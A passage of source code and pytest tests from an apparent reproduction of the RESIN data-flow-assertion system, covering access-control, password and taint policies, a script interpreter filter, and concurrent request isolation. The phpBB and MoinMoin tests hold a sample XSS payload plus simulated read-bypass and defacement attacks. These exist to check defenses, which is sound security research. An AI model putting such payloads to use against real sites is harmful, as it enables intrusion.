        assert resin2.db.query("SELECT v FROM kv WHERE k = 7").scalar() == "v7"
        assert resin2.db.query("SELECT count(*) FROM kv WHERE k = 4"
                               ).scalar() == 0
        resin2.durability.close()

    def test_indexes_survive_snapshot_restore(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE kv (k INTEGER, v TEXT)")
        resin.db.create_index("kv", "k")
        for n in range(10):
            resin.db.query(f"INSERT INTO kv (k, v) VALUES ({n}, 'v{n}')")
        resin.durability.checkpoint()
        resin.durability.close()

        resin2 = Resin.open(store)
        table = resin2.db.engine.tables["kv"]
        assert set(table.indexes) == {"idx_kv_k"}
        assert [table.rows[p]["v"] for p in
                table.indexes["idx_kv_k"].lookup_eq([3])] == ["v3"]
        resin2.durability.close()

    def test_dropped_index_stays_dropped(self, tmp_path):
        store = str(tmp_path / "store")
        resin = Resin.open(store)
        resin.db.query("CREATE TABLE kv (k INTEGER)")
        resin.db.create_index("kv", "k")
        resin.db.engine.run("DROP INDEX idx_kv_k")
        resin.durability.close()
        resin2 = Resin.open(store)
        assert not resin2.db.engine.tables["kv"].indexes
        resin2.durability.close()
