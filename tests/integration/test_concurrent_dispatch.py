"""Concurrent dispatch over a shared environment.

N worker threads serve N distinct users from one Environment; per-user taint
and policy state stay isolated, a PolicyViolation in one request never aborts
another, and the 16-worker Table-4 run reaches the same verdicts as the
serial run.
"""

import threading
import time

import pytest

from repro.core.exceptions import AccessDenied, PolicyViolation
from repro.environment import Environment
from repro.evaluation import table4
from repro.server.dispatcher import Dispatcher
from repro.web.app import WebApplication
from repro.web.request import Request


class TestRequestIsolation:
    def test_overlapping_requests_keep_their_own_context(self):
        """All workers are provably in flight at once (a barrier makes them
        overlap), yet each sees only its own user in the contextvar-routed
        state (env.http, fs.request_context)."""
        workers = 8
        env = Environment()
        app = WebApplication(env, "barrier-app")
        barrier = threading.Barrier(workers)

        @app.route("/whoami")
        def whoami(request, response):
            barrier.wait(timeout=10)
            # env.http resolves to *this request's* channel, and the fs
            # request context to *this request's* user, even though all
            # eight handlers run simultaneously on the shared environment.
            env.http.write(f"user={request.user};")
            env.http.write(f"fs={env.fs.request_context.get('user')}")

        users = [f"user-{i}@example.org" for i in range(workers)]
        with Dispatcher(app, workers=workers) as server:
            futures = [server.submit(Request("/whoami", user=u))
                       for u in users]
            bodies = {u: f.result().body() for u, f in zip(users, futures)}
        for user in users:
            assert bodies[user] == f"user={user};fs={user}"

    def test_phpbb_policy_enforcement_per_user(self):
        """The phpBB read-ACL assertion holds per request: mallory's requests
        are blocked by the message policy while admin's (interleaved on the
        same board, same pool) keep working."""
        from repro.apps.phpbb import PhpBB
        board = PhpBB(Environment(), use_read_assertion=True,
                      use_xss_assertion=False)
        board.create_forum(1, "public")
        board.create_forum(2, "staff", allowed_users=["admin"])
        board.post_message(10, 2, "admin", "salaries", "the secret salaries")
        board.post_message(11, 1, "admin", "welcome", "hello world")

        app = WebApplication(board.env, "phpbb")

        @app.route("/printable")
        def printable(request, response):
            # The known-buggy path: no explicit permission check — only the
            # RESIN policy stands between the message and the browser.
            board.printable_view(int(request.param("id")), request.user,
                                 response)

        requests = []
        for _ in range(8):
            requests.append(Request("/printable", params={"id": "10"},
                                    user="admin"))
            requests.append(Request("/printable", params={"id": "10"},
                                    user="mallory"))
            requests.append(Request("/printable", params={"id": "11"},
                                    user="mallory"))
        with Dispatcher(app, workers=16) as server:
            results = server.dispatch_all(requests, return_exceptions=True)

        for request, result in zip(requests, results):
            if request.user == "admin":
                assert "secret salaries" in result.body()
            elif request.param("id") == "10":
                # One request's violation is confined to its own future.
                assert isinstance(result, AccessDenied)
            else:
                assert "hello world" in result.body()
                assert "secret" not in result.body()

    def test_hotcrp_review_isolation(self):
        """Concurrent HotCRP review-page requests: PC members see the
        unreleased review, outsiders get the buffered 'hidden' substitute —
        and never each other's output."""
        from repro.apps.hotcrp import HotCRP
        site = HotCRP(Environment(), use_resin=True)
        site.register_user("pc@example.org", "pw", is_pc=True)
        site.register_user("out@example.org", "pw")
        site.submit_paper(1, "Data Flow Assertions", "abstract",
                          ["a@authors.org"], anonymous=True)
        site.add_review(1, "pc@example.org", "Strong accept; novel.",
                        released=False)

        app = WebApplication(site.env, "hotcrp")

        @app.route("/review")
        def review(request, response):
            # The application's auth step resolves PC membership into the
            # response context (what HotCRP's _response_for does).
            response.context["is_pc"] = site.is_pc_member(request.user)
            site.review_page(1, request.user, response)

        users = ["pc@example.org", "out@example.org"] * 8
        with Dispatcher(app, workers=16) as server:
            responses = server.dispatch_all(
                Request("/review", user=u) for u in users)

        for user, response in zip(users, responses):
            if user == "pc@example.org":
                assert "Strong accept" in response.body()
            else:
                assert "Strong accept" not in response.body()
                assert "hidden" in response.body()

    def test_violation_in_one_request_never_aborts_another(self):
        env = Environment()
        app = WebApplication(env, "mixed")
        started = []

        @app.route("/ok")
        def ok(request, response):
            started.append(request.user)
            response.write("fine")

        @app.route("/boom")
        def boom(request, response):
            raise PolicyViolation("assertion fired")

        requests = [Request("/boom", user="evil")] * 4 + \
                   [Request("/ok", user=f"u{i}") for i in range(12)]
        with Dispatcher(app, workers=16) as server:
            results = server.dispatch_all(requests, return_exceptions=True)
        violations = [r for r in results if isinstance(r, PolicyViolation)]
        pages = [r for r in results if not isinstance(r, Exception)]
        assert len(violations) == 4
        assert len(pages) == 12
        assert all("fine" in page.body() for page in pages)
        assert sorted(started) == sorted(f"u{i}" for i in range(12))


class TestTable4Concurrent:
    @pytest.mark.parametrize("use_resin", [False, True])
    def test_16_worker_run_matches_serial_verdicts(self, use_resin):
        serial = table4.run_all(use_resin)
        concurrent = table4.run_all_concurrent(use_resin, workers=16)
        assert table4.verdicts(concurrent) == table4.verdicts(serial)

    @pytest.mark.parametrize("use_resin", [False, True])
    def test_socket_front_end_matches_serial_verdicts(self, use_resin):
        """The full Table 4 suite served over real loopback sockets — an
        HTTPServer on a background thread, 8 concurrent http.client
        POSTs — reaches verdicts identical to the in-process runs."""
        serial = table4.run_all(use_resin)
        over_socket = table4.run_all_concurrent(use_resin, workers=8,
                                                front_end="socket")
        assert table4.verdicts(over_socket) == table4.verdicts(serial)


class TestThroughputScaling:
    def test_io_bound_handlers_overlap_across_workers(self):
        """Handlers that wait on (simulated) I/O overlap: 8 requests with a
        20ms backend wait finish in well under the 160ms a serial run needs.
        The full >2x-at-4-workers acceptance check lives in
        benchmarks/bench_dispatch.py (its own CI job)."""
        env = Environment()
        app = WebApplication(env, "sleepy")

        @app.route("/page")
        def page(request, response):
            time.sleep(0.02)           # simulated backend latency
            response.write(f"served {request.user}")

        reqs = [Request("/page", user=f"u{i}") for i in range(8)]
        with Dispatcher(app, workers=8) as server:
            start = time.perf_counter()
            responses = server.dispatch_all(reqs)
            elapsed = time.perf_counter() - start
        assert all(f"served u{i}" in r.body()
                   for i, r in enumerate(responses))
        assert elapsed < 8 * 0.02      # strictly less than the serial sum
