"""Integration tests: the Table 4 harness and the performance workloads.

These are the same scenario runners the benchmarks use; the tests assert the
*qualitative* reproduction result: every attack that succeeds against the
unprotected application is prevented by the RESIN assertion, and legitimate
functionality keeps working in both configurations.
"""

import pytest

from repro.evaluation import hotcrp_perf, table4, table5


@pytest.mark.parametrize("scenario", table4.SCENARIOS,
                         ids=[f"{s.application}--{s.assertion}"
                              for s in table4.SCENARIOS])
class TestTable4Scenarios:
    def test_attacks_blocked_with_resin(self, scenario):
        result = table4.run_scenario(scenario, use_resin=True)
        assert result.exploited == 0
        assert result.legitimate_ok

    def test_attacks_succeed_without_resin(self, scenario):
        result = table4.run_scenario(scenario, use_resin=False)
        # Every previously-known or newly-discovered vulnerability of the
        # row must actually be exploitable on the unprotected application.
        expected = scenario.known + scenario.discovered
        assert result.exploited >= expected
        assert result.legitimate_ok

    def test_assertion_loc_matches_paper(self, scenario):
        result = table4.run_scenario(scenario, use_resin=True)
        assert result.assertion_loc == scenario.assertion_loc
        assert result.known_vulnerabilities == scenario.known
        assert result.discovered_vulnerabilities == scenario.discovered


class TestTable4Aggregate:
    def test_totals(self):
        protected = table4.run_all(True)
        unprotected = table4.run_all(False)
        total_known_discovered = sum(s.known + s.discovered
                                     for s in table4.SCENARIOS)
        assert total_known_discovered == 22   # as reported by the paper
        assert sum(r.exploited for r in unprotected) >= total_known_discovered
        assert sum(r.exploited for r in protected) == 0
        report = table4.format_table(protected, unprotected)
        assert "phpBB" in report and "TOTAL" in report


class TestTable5Workloads:
    @pytest.mark.parametrize("configuration", table5.CONFIGURATIONS)
    def test_every_operation_runs(self, configuration):
        suite = table5.MicrobenchSuite(configuration)
        for name in table5.OPERATIONS:
            suite.operation(name)()

    def test_unknown_operation_and_configuration(self):
        with pytest.raises(ValueError):
            table5.MicrobenchSuite("turbo")
        suite = table5.MicrobenchSuite("unmodified")
        with pytest.raises(ValueError):
            suite.operation("teleport")

    def test_paper_reference_covers_all_operations(self):
        assert set(table5.PAPER_TABLE5_MICROSECONDS) == set(table5.OPERATIONS)


class TestHotCRPWorkload:
    def test_both_configurations_render_same_page(self):
        workloads = hotcrp_perf.build_workloads()
        plain = workloads["unmodified"].generate_page()
        resin = workloads["resin"].generate_page()
        assert "Improving Application Security" in plain
        assert plain == resin
        # Anonymous author list suppressed in both configurations.
        assert "author@example.org" not in resin
        assert "Anonymous" in resin

    def test_page_size_in_expected_ballpark(self):
        size = hotcrp_perf.HotCRPPageWorkload(use_resin=True).page_size()
        assert 4_000 < size < 20_000

    def test_repeated_generation_is_stable(self):
        workload = hotcrp_perf.HotCRPPageWorkload(use_resin=True)
        assert workload.generate_page() == workload.generate_page()
