"""Integration tests: MoinMoin wiki and phpBB forum scenarios."""

import pytest

from repro.apps.moinmoin import MoinMoin
from repro.apps.phpbb import PhpBB
from repro.channels.socketchan import SocketChannel
from repro.core.exceptions import AccessDenied, InjectionViolation
from repro.environment import Environment
from repro.security.assertions import mark_untrusted


@pytest.fixture
def wiki():
    wiki = MoinMoin(Environment(), use_resin=True)
    wiki.update_body("SecretPlans", "#acl alice:read,write\nthe secret plans",
                     "alice")
    wiki.update_body("PublicPage", "#acl All:read Known:read,write\nwelcome",
                     "bob")
    return wiki


class TestMoinMoinReadACL:
    def test_authorized_read(self, wiki):
        assert "secret plans" in wiki.view_page("SecretPlans", "alice").body()

    def test_unauthorized_read_blocked_by_app_check(self, wiki):
        with pytest.raises(AccessDenied):
            wiki.view_page("SecretPlans", "mallory")

    def test_public_page_readable_by_anonymous(self, wiki):
        assert "welcome" in wiki.view_page("PublicPage", None).body()

    def test_include_directive_bug_blocked(self, wiki):
        wiki.update_body("MalloryPage", "{{include:SecretPlans}}", "mallory")
        with pytest.raises(AccessDenied):
            wiki.view_page("MalloryPage", "mallory")

    def test_include_of_readable_page_is_fine(self, wiki):
        wiki.update_body("Index", "see {{include:PublicPage}}", "carol")
        assert "welcome" in wiki.view_page("Index", "carol").body()

    def test_raw_action_bug_blocked(self, wiki):
        with pytest.raises(AccessDenied):
            wiki.raw_action("SecretPlans", "mallory")
        assert "secret plans" in wiki.raw_action("SecretPlans",
                                                 "alice").body()

    def test_policy_survives_filesystem_roundtrip(self, wiki):
        from repro.policies import PagePolicy
        body = wiki.env.fs.read_text("/wiki/pages/SecretPlans/00000001")
        assert body.policies().has_type(PagePolicy)

    def test_missing_page_404(self, wiki):
        from repro.core.exceptions import HTTPError
        with pytest.raises(HTTPError):
            wiki.view_page("NoSuchPage", "alice")

    def test_acl_defaults_when_no_header(self, wiki):
        wiki.update_body("NoAcl", "open content", "dave")
        assert "open content" in wiki.view_page("NoAcl", None).body()


class TestMoinMoinWriteACL:
    def test_unauthorized_overwrite_blocked(self, wiki):
        with pytest.raises(AccessDenied):
            wiki.overwrite_revision("SecretPlans", 1, "defaced", "mallory")

    def test_owner_can_overwrite(self, wiki):
        wiki.overwrite_revision("SecretPlans", 1,
                                "#acl alice:read,write\nfixed typo", "alice")
        assert "fixed typo" in str(
            wiki.env.fs.read_text("/wiki/pages/SecretPlans/00000001"))

    def test_app_level_edit_check(self, wiki):
        with pytest.raises(AccessDenied):
            wiki.update_body("SecretPlans", "new content", "mallory")
        assert wiki.update_body("PublicPage", "#acl All:read\nv2", "bob") == 2

    def test_unprotected_wiki_can_be_defaced(self):
        wiki = MoinMoin(Environment(), use_resin=False,
                        use_write_assertion=False)
        wiki.update_body("Page", "#acl alice:read,write\noriginal", "alice")
        wiki.overwrite_revision("Page", 1, "defaced", "mallory")
        assert "defaced" in str(
            wiki.env.fs.read_text("/wiki/pages/Page/00000001"))


@pytest.fixture
def board():
    board = PhpBB(Environment(), use_read_assertion=True,
                  use_xss_assertion=True)
    board.create_forum(1, "public")
    board.create_forum(2, "staff", allowed_users=["admin"])
    board.post_message(10, 2, "admin", "salaries", "the salaries are secret")
    board.post_message(11, 1, "admin", "welcome", "hello world")
    return board


class TestPhpBBReadAccess:
    def test_member_reads_allowed_forum(self, board):
        assert "secret" in board.view_message(10, "admin").body()
        assert "hello world" in board.view_message(11, "guest").body()

    def test_main_view_checks_permissions(self, board):
        with pytest.raises(AccessDenied):
            board.view_message(10, "mallory")

    @pytest.mark.parametrize("path", ["printable_view", "reply_form"])
    def test_buggy_views_blocked_by_policy(self, board, path):
        with pytest.raises(AccessDenied):
            getattr(board, path)(10, "mallory")

    def test_rss_and_search_blocked(self, board):
        with pytest.raises(AccessDenied):
            board.rss_feed("mallory")
        with pytest.raises(AccessDenied):
            board.search_excerpts("salaries", "mallory")

    def test_rss_allowed_for_staff(self, board):
        assert "secret" in board.rss_feed("admin").body()

    def test_message_policy_survives_database(self, board):
        from repro.apps.phpbb import ForumMessagePolicy
        from repro.core.api import policy_get
        row = board._message(10)
        assert policy_get(row["body"]).has_type(ForumMessagePolicy)


class TestPhpBBXSS:
    PAYLOAD = "<script>alert(1)</script>"

    def test_preview_and_search_blocked(self, board):
        payload = mark_untrusted(self.PAYLOAD, "http-param")
        with pytest.raises(InjectionViolation):
            board.post_preview(payload, "body", "viewer")
        with pytest.raises(InjectionViolation):
            board.highlight_search(payload, "viewer")

    def test_signature_xss_blocked_after_db_roundtrip(self, board):
        board.set_signature("eve", self.PAYLOAD)
        with pytest.raises(InjectionViolation):
            board.profile_page("eve", "viewer")

    def test_whois_path_blocked(self, board):
        server = SocketChannel("whois.example.net")
        server.feed(self.PAYLOAD + "\nRegistrant: Example")
        with pytest.raises(InjectionViolation):
            board.whois_page("example.com", server, "viewer")

    def test_escaped_output_is_allowed(self, board):
        body = board.view_message(11, "viewer").body()
        assert "hello world" in body

    def test_unprotected_board_leaks(self):
        board = PhpBB(Environment(), use_read_assertion=False,
                      use_xss_assertion=False)
        board.create_forum(1, "public")
        board.post_message(1, 1, "admin", "hi", "body")
        response = board.post_preview(self.PAYLOAD, "body", "viewer")
        assert self.PAYLOAD in response.body()
