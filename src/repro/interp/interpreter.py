"""A miniature script interpreter.

The paper's server-side script injection assertion interposes on the PHP
interpreter's code-import path.  Our stand-in interpreter executes small
Python scripts stored in the in-memory filesystem; what matters for the
reproduction is the *data flow*: script source is read from the filesystem
(carrying whatever persistent policies are stored with it), flows through
the ``code`` channel's filter, and only then is executed.

Scripts run with a tiny global namespace:

``output(text)``
    Append text to the HTTP response (if any).
``request`` / ``response`` / ``env``
    The current request, response channel and environment.
``globals_dict``
    A scratch dict shared with the caller — attack scripts use it to prove
    they executed (e.g. set ``pwned = True``).
"""

from __future__ import annotations

from typing import Any, Dict, Optional

from ..channels.codeimport import CodeChannel
from ..core.exceptions import ResinError


class ScriptError(ResinError):
    """A script failed to execute."""


class Interpreter:
    """Executes scripts from the environment's filesystem."""

    def __init__(self, env):
        self.env = env
        #: Shared scratch state visible to scripts; used by tests to observe
        #: whether (attacker) code actually ran.
        self.globals: Dict[str, Any] = {}

    def new_channel(self, origin: Optional[str] = None) -> CodeChannel:
        """A fresh code-import channel resolving its default filter through
        the owning environment's registry (so a script-injection assertion
        installed for one environment does not leak into another)."""
        context = {"origin": origin} if origin else {}
        return CodeChannel(context, env=self.env)

    def execute_source(self, source, origin: str = "<string>",
                       request=None, response=None) -> Dict[str, Any]:
        """Execute script source (the ``eval`` path)."""
        channel = self.new_channel(origin)
        code = channel.load(source, origin=origin)
        return self._run(str(code), origin, request, response)

    def execute_file(self, path: str, request=None, response=None
                     ) -> Dict[str, Any]:
        """Execute a script stored in the filesystem (the ``include`` path or
        a direct HTTP request for the file)."""
        source = self.env.fs.read_text(path)
        channel = self.new_channel(path)
        code = channel.load(source, origin=path)
        return self._run(str(code), path, request, response)

    def _run(self, code: str, origin: str, request, response) -> Dict[str, Any]:
        namespace: Dict[str, Any] = {
            "request": request,
            "response": response,
            "env": self.env,
            "globals_dict": self.globals,
            "output": (response.write if response is not None
                       else (lambda text: None)),
        }
        try:
            exec(compile(code, origin, "exec"), namespace)  # noqa: S102
        except ResinError:
            raise
        except Exception as exc:
            raise ScriptError(f"script {origin!r} failed: {exc}") from exc
        return namespace
