"""Filters for the code-import channel.

``InterpreterFilter`` is the filter of Figure 6: it refuses to hand code to
the interpreter unless every character of the code carries a
``CodeApproval`` policy.  This is the programmer-specified filter that
*requires* a policy (as opposed to the permissive default filters, which only
check policies that are present) — the distinction Section 5.2 calls out.
"""

from __future__ import annotations

from typing import Any

from ..core.exceptions import ScriptInjectionViolation
from ..core.filter import Filter
from ..policies.code_approval import CodeApproval
from ..tracking.tainted_bytes import TaintedBytes
from ..tracking.tainted_str import TaintedStr


class InterpreterFilter(Filter):
    """Only approved code may be interpreted (Data Flow Assertion 3)."""

    def filter_read(self, data: Any, offset: int = 0) -> Any:
        if isinstance(data, (TaintedStr, TaintedBytes)):
            if len(data) and data.rangemap.every_position_has(CodeApproval):
                return data
        raise ScriptInjectionViolation(
            "refusing to interpret code without a CodeApproval policy "
            f"(origin: {self.context.get('origin', 'unknown')!r})",
            context=self.context)
