"""Script interpreter substrate (server-side script injection boundary)."""

from .filters import InterpreterFilter
from .interpreter import Interpreter, ScriptError

__all__ = ["Interpreter", "InterpreterFilter", "ScriptError"]
