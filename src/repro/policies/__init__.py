"""Standard policy classes used by the paper's data flow assertions."""

from .acl import (ACL, ALL_USERS, ANONYMOUS, KNOWN_USERS, PagePolicy,
                  ReadAccessPolicy)
from .code_approval import CodeApproval
from .password import PasswordPolicy, SecretPolicy
from .untrusted import (AuthenticData, HTMLSanitized, JSONSanitized,
                        SanitizedMarker, SQLSanitized, UntrustedData)

__all__ = [
    "ACL", "ALL_USERS", "KNOWN_USERS", "ANONYMOUS",
    "PagePolicy", "ReadAccessPolicy",
    "CodeApproval",
    "PasswordPolicy", "SecretPolicy",
    "UntrustedData", "SanitizedMarker", "SQLSanitized", "HTMLSanitized",
    "JSONSanitized", "AuthenticData",
]
