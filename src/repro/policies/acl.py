"""Access-control-list policies.

``PagePolicy`` is the MoinMoin read-ACL assertion of Figure 5 (Data Flow
Assertion 4): a wiki page may flow out of the system only to a user on the
page's ACL.  ``ACL`` is the small reusable ACL structure the policies and the
filesystem write-access filters share.
"""

from __future__ import annotations

from typing import Any, Dict, Iterable, Mapping, Optional, Set

from ..core.exceptions import AccessDenied, PolicyViolation
from ..core.policy import Policy

#: Wildcard principal meaning "every user, including anonymous".
ALL_USERS = "All"

#: Principal meaning "any authenticated (non-anonymous) user".
KNOWN_USERS = "Known"

#: The anonymous principal.
ANONYMOUS = "anonymous"


class ACL:
    """A MoinMoin-style access control list.

    Maps principals (user names, ``All`` or ``Known``) to sets of rights
    (``'read'``, ``'write'``, ``'admin'``, …).  Immutable-ish value object:
    equality and hashing are defined over the entries so an ACL can live
    inside a policy's serializable fields.
    """

    def __init__(self, entries: Optional[Mapping[str, Iterable[str]]] = None):
        self.entries: Dict[str, tuple] = {
            principal: tuple(sorted(set(rights)))
            for principal, rights in (entries or {}).items()
        }

    @classmethod
    def allow_all(cls, rights: Iterable[str] = ("read",)) -> "ACL":
        return cls({ALL_USERS: tuple(rights)})

    @classmethod
    def parse(cls, text: str) -> "ACL":
        """Parse the compact ``"user:right,right user2:right"`` syntax used
        by the wiki application and by tests."""
        entries: Dict[str, Set[str]] = {}
        for clause in text.split():
            principal, _, rights = clause.partition(":")
            if not principal:
                continue
            entries.setdefault(principal, set()).update(
                right for right in rights.split(",") if right)
        return cls(entries)

    def may(self, user: Optional[str], right: str) -> bool:
        """True if ``user`` holds ``right`` under this ACL."""
        user = user or ANONYMOUS
        rights = set(self.entries.get(user, ()))
        if user != ANONYMOUS:
            rights.update(self.entries.get(KNOWN_USERS, ()))
        rights.update(self.entries.get(ALL_USERS, ()))
        return right in rights

    def grant(self, principal: str, *rights: str) -> "ACL":
        """Return a new ACL with ``rights`` added for ``principal``."""
        entries = {p: set(r) for p, r in self.entries.items()}
        entries.setdefault(principal, set()).update(rights)
        return ACL(entries)

    def revoke(self, principal: str, *rights: str) -> "ACL":
        entries = {p: set(r) for p, r in self.entries.items()}
        if principal in entries:
            entries[principal] -= set(rights)
            if not entries[principal]:
                del entries[principal]
        return ACL(entries)

    def principals(self) -> Set[str]:
        return set(self.entries)

    def to_dict(self) -> Dict[str, list]:
        return {principal: list(rights)
                for principal, rights in self.entries.items()}

    @classmethod
    def from_dict(cls, data: Mapping[str, Iterable[str]]) -> "ACL":
        return cls(data)

    def __eq__(self, other: object) -> bool:
        if not isinstance(other, ACL):
            return NotImplemented
        return self.entries == other.entries

    def __hash__(self) -> int:
        return hash(tuple(sorted(self.entries.items())))

    def __repr__(self) -> str:
        return f"ACL({self.entries!r})"


class PagePolicy(Policy):
    """Wiki page *p* may flow out only to a user on *p*'s read ACL
    (Figure 5)."""

    ENFORCED_TYPES = frozenset({"http", "socket", "email"})

    def __init__(self, acl: ACL, page_name: Optional[str] = None):
        self.acl = acl
        self.page_name = page_name

    def serializable_fields(self) -> Dict[str, Any]:
        return {"acl": self.acl.to_dict(), "page_name": self.page_name}

    def __setattr__(self, key, value):
        # De-serialization restores ``acl`` as a plain dict; rebuild the ACL.
        if key == "acl" and isinstance(value, Mapping):
            value = ACL.from_dict(value)
        super().__setattr__(key, value)

    def export_check(self, context: Mapping[str, Any]) -> None:
        if context.get("type") not in self.ENFORCED_TYPES:
            return
        user = context.get("user") or context.get("email")
        if self.acl.may(user, "read"):
            return
        raise AccessDenied(
            f"user {user!r} may not read page {self.page_name!r}",
            policy=self, context=context)

    def scan_predicate(self, context: Mapping[str, Any]):
        # Pure principal ACL: the verdict for the requesting context is
        # decidable once per query plan.
        try:
            self.export_check(context)
        except PolicyViolation:
            return False
        return True


class ReadAccessPolicy(Policy):
    """Generic "only these users may receive this datum" policy.

    Used by the phpBB forum-message assertion and the HotCRP paper/author
    assertions, where the readable set is computed from application data
    structures rather than a wiki ACL.
    """

    ENFORCED_TYPES = frozenset({"http", "socket", "email"})

    def __init__(self, allowed_users: Iterable[str], label: str = "",
                 allow_chair: bool = False):
        self.allowed_users = frozenset(str(u) for u in allowed_users)
        self.label = label
        self.allow_chair = allow_chair

    def export_check(self, context: Mapping[str, Any]) -> None:
        if context.get("type") not in self.ENFORCED_TYPES:
            return
        user = context.get("user") or context.get("email")
        if user is not None and str(user) in self.allowed_users:
            return
        if self.allow_chair and context.get("priv_chair"):
            return
        raise AccessDenied(
            f"user {user!r} lacks read access to {self.label or 'data'}",
            policy=self, context=context)

    def scan_predicate(self, context: Mapping[str, Any]):
        # Pure principal ACL: decidable once per query plan.
        try:
            self.export_check(context)
        except PolicyViolation:
            return False
        return True
