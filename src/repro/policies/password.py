"""Password-disclosure policies.

``PasswordPolicy`` is the running example of the paper (Figure 2 and Data
Flow Assertion 5): user *u*'s password may leave the system only via e-mail
to *u*'s address, or over HTTP to the program chair.

``SecretPolicy`` is the general form: data that may never leave the system at
all (useful for the myPHPscripts login-library assertion, whose only
difference from HotCRP's is that it does not allow e-mail reminders,
Section 6.3).
"""

from __future__ import annotations

from typing import Any, Iterable, Mapping

from ..core.exceptions import DisclosureViolation
from ..core.policy import Policy


class PasswordPolicy(Policy):
    """User ``email``'s password may be disclosed only to that user.

    Allowed flows:

    * ``email`` channel whose recipient is the owner's address;
    * ``http`` channel whose authenticated user is the program chair
      (``context['priv_chair']`` truthy) — mirroring HotCRP's
      ``$Me->privChair`` escape hatch — unless ``allow_chair=False``.

    Flows to files, the SQL database and pipes inside the system are allowed:
    persistence filters serialize the policy instead of checking it, so the
    assertion keeps protecting the password after it is stored.
    """

    #: Boundary types on which the assertion is enforced.  Internal /
    #: persistent boundaries (file, sql, pipe) serialize the policy instead.
    ENFORCED_TYPES = frozenset({"http", "socket", "email"})

    def __init__(self, email: str, allow_chair: bool = True):
        self.email = email
        self.allow_chair = allow_chair

    def export_check(self, context: Mapping[str, Any]) -> None:
        channel = context.get("type")
        if channel not in self.ENFORCED_TYPES:
            return
        if channel == "email" and context.get("email") == self.email:
            return
        if (channel == "http" and self.allow_chair
                and context.get("priv_chair")):
            return
        raise DisclosureViolation(
            f"unauthorized disclosure of {self.email}'s password via "
            f"{channel!r} channel", policy=self, context=context)


class SecretPolicy(Policy):
    """Data that must never leave the system through any external channel.

    ``allowed_types`` can open specific channels (e.g. ``{"email"}``) and
    ``allowed_users`` can open HTTP output to specific authenticated users.
    """

    ENFORCED_TYPES = frozenset({"http", "socket", "email", "pipe"})

    def __init__(self, label: str = "secret",
                 allowed_types: Iterable[str] = (),
                 allowed_users: Iterable[str] = ()):
        self.label = label
        self.allowed_types = frozenset(allowed_types)
        self.allowed_users = frozenset(allowed_users)

    def export_check(self, context: Mapping[str, Any]) -> None:
        channel = context.get("type")
        if channel not in self.ENFORCED_TYPES:
            return
        if channel in self.allowed_types:
            return
        if (channel == "http"
                and context.get("user") in self.allowed_users):
            return
        raise DisclosureViolation(
            f"unauthorized disclosure of {self.label!r} via {channel!r} "
            "channel", policy=self, context=context)
