"""Taint-style tracking policies.

These policies implement the two SQL-injection / cross-site-scripting
strategies of Section 5.3:

* ``UntrustedData`` marks data that came from outside the application (HTTP
  parameters, uploaded files, whois responses, …).  It uses *union* merge:
  anything computed from untrusted data is untrusted.
* ``SQLSanitized`` / ``HTMLSanitized`` mark data that has passed through the
  corresponding sanitizer.  They use *intersection* merge: data combined from
  sanitized and unsanitized operands is no longer considered sanitized.
* ``AuthenticData`` marks data whose provenance is trusted; it also uses
  intersection merge (the paper's example of a policy wanting the
  intersection strategy, Section 3.4.2).

None of these policies enforce anything in ``export_check`` on their own —
enforcement happens in the SQL and HTML filter objects, which inspect the
query/markup for characters that carry ``UntrustedData`` but not the
matching ``*Sanitized`` policy.
"""

from __future__ import annotations

from typing import Any, Mapping, Optional

from ..core.policy import Policy


class UntrustedData(Policy):
    """Marks data that originated outside the application."""

    merge_strategy = "union"

    def __init__(self, source: Optional[str] = None):
        #: Where the data came from (``'http-param'``, ``'upload'``,
        #: ``'whois'``, …).  Informational; never affects enforcement.
        self.source = source

    def export_check(self, context: Mapping[str, Any]) -> None:
        """Untrusted data may flow anywhere by itself; the SQL/HTML filters
        decide whether it may appear inside query or markup structure."""


class SanitizedMarker(Policy):
    """Base class for sanitization markers; intersection merge."""

    merge_strategy = "intersect"

    def __init__(self, sanitizer: Optional[str] = None):
        #: Name of the sanitizing function that was applied (informational).
        self.sanitizer = sanitizer


class SQLSanitized(SanitizedMarker):
    """Marks data that has been passed through the SQL quoting function."""


class HTMLSanitized(SanitizedMarker):
    """Marks data that has been passed through the HTML escaping function."""


class JSONSanitized(SanitizedMarker):
    """Marks data that has been encoded for safe inclusion in JSON output
    (Section 5.4 mentions JSON as an additional attack vector)."""


class AuthenticData(Policy):
    """Marks data whose provenance has been verified.

    Intersection merge: a value computed from authentic and non-authentic
    operands is not authentic.
    """

    merge_strategy = "intersect"

    def __init__(self, authority: Optional[str] = None):
        self.authority = authority
