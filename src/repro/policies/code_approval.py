"""Code-approval policy for server-side script injection (Section 5.2).

``CodeApproval`` is deliberately empty: its presence is the assertion.  The
interpreter's input filter (``InterpreterFilter``) refuses to execute code
unless *every* character of the code carries a ``CodeApproval`` policy —
adversary-uploaded files lack the policy, so they can never be interpreted
(Data Flow Assertion 3), whether reached through include statements, ``eval``
or a direct HTTP request for the uploaded ``.php`` file.
"""

from __future__ import annotations

from typing import Any, Mapping, Optional

from ..core.policy import Policy


class CodeApproval(Policy):
    """Marks code that the developer approved for interpretation.

    The paper notes (footnote in Section 5.2) that ``CodeApproval`` does not
    need intersection merge because character-level tracking avoids merging
    file data; we keep union merge accordingly.
    """

    def __init__(self, approved_by: Optional[str] = None):
        #: Who approved the code (informational, e.g. ``'installer'``).
        self.approved_by = approved_by

    def export_check(self, context: Mapping[str, Any]) -> None:
        """Approved code may flow anywhere."""
