"""The RESIN environment.

``Environment`` wires the substrates together the way a LAMP-style
deployment does: one filesystem, one database, one outgoing-mail transport,
one script interpreter, and per-request HTTP output channels.  The paper's
evaluation applications (:mod:`repro.apps`) are built on top of an
``Environment``; examples and benchmarks create one per scenario.

Each environment owns a :class:`~repro.core.registry.FilterRegistry` that
supplies the default filter of every channel the environment (or its
substrates) creates.  The registry inherits from the process-wide default
registry, so overrides installed through the deprecated free functions
remain visible — but overrides installed on *this* environment's registry
never leak into other environments in the same process.  That scoping is
what lets many tenants/requests run concurrently in one interpreter.
"""

from __future__ import annotations

import itertools
from typing import Optional

from .channels.httpout import HTTPOutputChannel
from .channels.mail import MailTransport
from .channels.socketchan import PipeChannel, SocketChannel
from .channels.sqlchan import Database
from .core.registry import FilterRegistry, default_registry
from .core.services import ServiceRegistry
from .fs.resinfs import ResinFS
from .interp.interpreter import Interpreter
from .sql.engine import Engine
from .web.session import SessionStore


class Environment:
    """Everything an application needs to run under RESIN."""

    def __init__(self, persist_policies: bool = True,
                 registry: Optional[FilterRegistry] = None):
